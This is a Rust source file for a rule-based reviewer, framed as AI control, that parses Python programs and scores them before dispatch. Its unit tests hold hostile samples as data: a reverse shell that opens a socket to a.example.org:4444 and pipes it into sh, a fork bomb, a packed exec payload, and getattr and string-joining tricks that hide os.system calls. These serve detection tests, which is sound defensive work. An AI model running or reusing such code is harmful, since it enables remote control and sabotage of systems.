//! AI control: review a Python program before it is dispatched.
//!
//! [`Reviewer`] is the interface; [`BuiltinReviewer`] needs no network: it parses the program
//! with Ruff's parser and runs the rules of `resources/review/rules.toml` (data: what each
//! matches, an example that must fire and one that must not) over the AST. Names are resolved
//! through imports and indirection (`import os as o`, `from subprocess import run as r`,
//! `getattr(os, "sys" + "tem")`, `vars(os)["system"]`), so renaming a call does not hide it.
//! The findings give a risk score and, through the policy in the same file, a decision.

#![forbid(unsafe_code)]
#![deny(clippy::print_stdout, clippy::print_stderr)]

pub mod llm;
pub mod results;
mod rules;
mod walk;

use fleetbox_proto::{CodeReview, Decision, Finding};
use ruff_source_file::LineIndex;
use ruff_text_size::TextSize;

pub use rules::{Policy, Rule, RuleSet, RulesError};

/// The rules shipped with Fleetbox.
pub const SHIPPED_RULES: &str = include_str!("../../../resources/review/rules.toml");

/// A program that does not parse: refused at submission, with where.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("syntax error at line {line}, column {column}: {message}")]
pub struct SyntaxError {
    pub line: u32,
    pub column: u32,
    pub message: String,
}

/// Something that judges code before it runs, and may propose what to run after.
pub trait Reviewer: Send + Sync {
    fn review_code(&self, code: &str) -> Result<CodeReview, SyntaxError>;

    /// The review of a program whose job declares what the rules `declared` find (a job that
    /// asks for the network, whose sandbox holds it to what it asked, expects
    /// `network.client`): those findings stay listed but add no risk; a known attack's shape
    /// that includes them still does. A model reviewer judges the whole program as it is.
    fn review_declared(&self, code: &str, declared: &[&str]) -> Result<CodeReview, SyntaxError> {
        let _ = declared;
        self.review_code(code)
    }

    /// Given a finished job, propose one follow-up from the templates offered, or none. The
    /// built-in reviewer proposes nothing: only a model does (the AI planner, off unless the
    /// coordinator is given templates and a model).
    fn propose_followup(
        &self,
        _job: &FollowupContext<'_>,
    ) -> Result<Option<FollowupProposal>, String> {
        Ok(None)
    }

    /// After a job ran: does its summary look wrong? `Ok(None)`: no opinion (the built-in
    /// reviewer's statistics are in `results::review`; only a model adds one here). A verdict
    /// can only add a flag, never clear one.
    fn review_results(&self, _job: &ResultContext<'_>) -> Result<Option<ResultVerdict>, String> {
        Ok(None)
    }
}

/// What a reviewer is shown of a finished job's results.
#[derive(Debug, Clone)]
pub struct ResultContext<'a> {
    pub job_name: &'a str,
    /// The job's metrics under the names follow-up rules read.
    pub summary: &'a serde_json::Value,
    /// What result review's statistics found, one sentence each.
    pub anomalies: &'a [String],
    /// The start of the result (at most a few KiB of its JSON).
    pub result_head: &'a str,
}

/// A model's opinion of a job's results.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResultVerdict {
    pub suspicious: bool,
    pub reasons: Vec<String>,
}

/// What a reviewer is shown of a finished job to propose a follow-up.
#[derive(Debug, Clone)]
pub struct FollowupContext<'a> {
    pub job_name: &'a str,
    /// `completed` or `failed`.
    pub state: &'a str,
    /// The job's metrics under the names follow-up rules read.
    pub summary: &'a serde_json::Value,
    /// The templates it may choose from: (name, what it does).
    pub templates: &'a [(String, String)],
}

/// A proposed follow-up: the name of one of the templates offered, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FollowupProposal {
    pub template: String,
    pub reason: String,
}

/// The reviewer that needs no network: rules over the AST.
#[derive(Debug, Clone)]
pub struct BuiltinReviewer {
    rules: RuleSet,
}

impl BuiltinReviewer {
    /// With the shipped rules.
    pub fn shipped() -> Self {
        BuiltinReviewer {
            rules: RuleSet::parse(SHIPPED_RULES).expect("the shipped review rules parse"),
        }
    }

    pub fn new(rules: RuleSet) -> Self {
        BuiltinReviewer { rules }
    }

    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }
}

impl Reviewer for BuiltinReviewer {
    fn review_code(&self, code: &str) -> Result<CodeReview, SyntaxError> {
        let index = LineIndex::from_source_text(code);
        let position = |at: TextSize| {
            let lc = index.line_column(at, code);
            (lc.line.get() as u32, lc.column.get() as u32)
        };
        let parsed = ruff_python_parser::parse_module(code).map_err(|e| {
            let (line, column) = position(e.location.start());
            SyntaxError {
                line,
                column,
                message: e.error.to_string(),
            }
        })?;
        let hits = walk::scan(parsed.suite(), &self.rules);
        let lines: Vec<&str> = code.lines().collect();
        let mut findings: Vec<Finding> = hits
            .into_iter()
            .map(|hit| {
                let rule = &self.rules.rules[hit.rule];
                let (line, column) = position(hit.at);
                let mut snippet = lines
                    .get(line as usize - 1)
                    .map(|l| l.trim().to_string())
                    .unwrap_or_default();
                if snippet.len() > 200 {
                    snippet.truncate(snippet.floor_char_boundary(200));
                }
                Finding {
                    rule: rule.id.clone(),
                    severity: rule.severity,
                    line,
                    column,
                    message: match hit.detail {
                        Some(d) => format!("{}: {d}", rule.description),
                        None => rule.description.clone(),
                    },
                    snippet,
                }
            })
            .collect();
        // Known attacks' shapes: a compound rule fires where the last of its parts did.
        for rule in self.rules.rules.iter().filter(|r| !r.all.is_empty()) {
            let parts: Option<Vec<&Finding>> = rule
                .all
                .iter()
                .map(|id| findings.iter().find(|f| &f.rule == id))
                .collect();
            if let Some(last) = parts.and_then(|p| p.into_iter().max_by_key(|f| (f.line, f.column)))
            {
                findings.push(Finding {
                    rule: rule.id.clone(),
                    severity: rule.severity,
                    line: last.line,
                    column: last.column,
                    message: format!("{} ({})", rule.description, rule.all.join(" + ")),
                    snippet: last.snippet.clone(),
                });
            }
        }
        findings.sort_by(|a, b| (a.line, a.column, &a.rule).cmp(&(b.line, b.column, &b.rule)));
        findings.dedup_by(|a, b| a.rule == b.rule && a.line == b.line && a.column == b.column);
        let risk = self.rules.risk(&findings);
        Ok(CodeReview {
            decision: self.rules.policy.decide(risk),
            findings,
            risk,
            reviewer: "builtin".into(),
        })
    }

    fn review_declared(&self, code: &str, declared: &[&str]) -> Result<CodeReview, SyntaxError> {
        let mut review = self.review_code(code)?;
        if declared.is_empty() {
            return Ok(review);
        }
        // A declared rule still counts when it is part of a known attack's shape that fired.
        let in_attacks: Vec<&str> = self
            .rules
            .rules
            .iter()
            .filter(|r| !r.all.is_empty() && review.findings.iter().any(|f| f.rule == r.id))
            .flat_map(|r| r.all.iter().map(String::as_str))
            .collect();
        let counted: Vec<Finding> = review
            .findings
            .iter()
            .filter(|f| {
                !declared.contains(&f.rule.as_str()) || in_attacks.contains(&f.rule.as_str())
            })
            .cloned()
            .collect();
        review.risk = self.rules.risk(&counted);
        review.decision = self.rules.policy.decide(review.risk);
        Ok(review)
    }
}

/// What a job that asks for the network (`network = true` or an allow list) declares.
pub const DECLARED_BY_NETWORK: &[&str] = &["network.client"];

/// The rules a job's network setting declares.
pub fn declared_by(network: &fleetbox_proto::Network) -> &'static [&'static str] {
    if network.is_off() {
        &[]
    } else {
        DECLARED_BY_NETWORK
    }
}

/// The decision for a risk, by a policy: exposed for callers that combine reviewers.
pub fn decide(policy: &Policy, risk: u32) -> Decision {
    policy.decide(risk)
}

#[cfg(test)]
mod tests {
    use super::*;
    use fleetbox_proto::Severity;

    fn review(code: &str) -> CodeReview {
        BuiltinReviewer::shipped().review_code(code).unwrap()
    }

    /// A job that asks for the network declares its network client: listed, not counted; a
    /// reverse shell's shape still is.
    #[test]
    fn a_declared_network_client_adds_no_risk_but_attacks_still_do() {
        let reviewer = BuiltinReviewer::shipped();
        let fetch =
            "import urllib.request\nprint(urllib.request.urlopen('https://pypi.org/').status)\n";
        let plain = reviewer.review_code(fetch).unwrap();
        assert_eq!(plain.decision, Decision::RunOnServerOnly);
        let declared = reviewer
            .review_declared(fetch, DECLARED_BY_NETWORK)
            .unwrap();
        assert_eq!(declared.decision, Decision::Run);
        assert_eq!(declared.risk, 0);
        assert!(declared.findings.iter().any(|f| f.rule == "network.client"));
        let shell = "import socket, subprocess\ns = socket.create_connection(('a.example.org', 4444))\nsubprocess.run(['sh'], stdin=s.fileno())\n";
        let declared = reviewer
            .review_declared(shell, DECLARED_BY_NETWORK)
            .unwrap();
        assert_eq!(declared, reviewer.review_code(shell).unwrap());
        assert_eq!(declared.decision, Decision::Hold);
    }

    fn rules_of(code: &str) -> Vec<String> {
        review(code).findings.into_iter().map(|f| f.rule).collect()
    }

    /// Every shipped rule fires on its own example and stays quiet on its counter-example.
    #[test]
    fn every_rule_fires_on_its_example_and_not_on_its_counter_example() {
        let reviewer = BuiltinReviewer::shipped();
        assert!(reviewer.rules().rules.len() >= 15);
        for rule in &reviewer.rules().rules {
            let fired = reviewer.review_code(&rule.fires).unwrap();
            assert!(
                fired.findings.iter().any(|f| f.rule == rule.id),
                "{}: did not fire on {:?}: {:?}",
                rule.id,
                rule.fires,
                fired.findings
            );
            let quiet = reviewer.review_code(&rule.passes).unwrap();
            assert!(
                !quiet.findings.iter().any(|f| f.rule == rule.id),
                "{}: fired on {:?}: {:?}",
                rule.id,
                rule.passes,
                quiet.findings
            );
        }
    }

    #[test]
    fn aliases_and_indirection_do_not_hide_a_call() {
        for code in [
            "import os as o\no.system('id')\n",
            "from os import system as s\ns('id')\n",
            "from subprocess import run as r\nr(['id'])\n",
            "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
            "import os\nvars(os)['system']('id')\n",
            "import os\nf = getattr(os, ''.join(['sy', 'st', 'em']))\nf('id')\n",
            "import importlib\nsp = importlib.import_module('subprocess')\nsp.Popen(['id'])\n",
            "sp = __import__('subprocess')\nsp.call('id')\n",
            "import os.path\nos.system('id')\n",
        ] {
            assert!(
                rules_of(code).contains(&"process.spawn".to_string()),
                "{code:?}: {:?}",
                review(code).findings
            );
        }
    }

    #[test]
    fn findings_say_where_and_what() {
        let r = review("x = 1\nimport subprocess\nsubprocess.check_output(['id'])\n");
        let f = r
            .findings
            .iter()
            .find(|f| f.rule == "process.spawn")
            .unwrap();
        assert_eq!((f.line, f.column), (3, 1));
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.snippet, "subprocess.check_output(['id'])");
        assert!(f.message.contains("starts another program"));
    }

    #[test]
    fn risk_and_decision_follow_the_policy() {
        let clean = review("import json\nprint(json.dumps({'a': 1}))\n");
        assert_eq!((clean.risk, clean.decision), (0, Decision::Run));
        let one = review("import subprocess\nsubprocess.run(['id'])\n");
        assert_eq!(one.decision, Decision::RunOnServerOnly);
        // The same rule many times counts once.
        let many = review(
            "import os\nfor c in ['a', 'b']:\n    os.system(c)\nos.system('x')\nos.system('y')\n",
        );
        assert_eq!(many.risk, one.risk);
        let bomb = review("import os\nwhile True:\n    os.fork()\n");
        assert_eq!(bomb.decision, Decision::Reject);
        let packed =
            review("import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJw=')))\n");
        assert_eq!(packed.decision, Decision::Reject, "{packed:?}");
    }

    #[test]
    fn syntax_errors_name_their_place() {
        let err = BuiltinReviewer::shipped()
            .review_code("print('ok')\ndef f(:\n    pass\n")
            .unwrap_err();
        assert_eq!(err.line, 2);
        assert!(err.column >= 6, "{err}");
        assert!(err.to_string().starts_with("syntax error at line 2"));
    }

    #[test]
    fn ordinary_scientific_code_runs() {
        let r = review(
            "import json, os, math\nimport numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt\n\
             shard = json.load(open(os.environ['FLEETBOX_INPUT']))\n\
             df = pd.DataFrame({'x': np.arange(10)})\nplt.plot(df.x)\nplt.savefig('chart.png')\n\
             with open('out.csv', 'w') as f:\n    f.write(df.to_csv())\nprint(math.sqrt(2))\n",
        );
        assert_eq!(r.decision, Decision::Run, "{:?}", r.findings);
        assert!(r.findings.is_empty(), "{:?}", r.findings);
    }
}
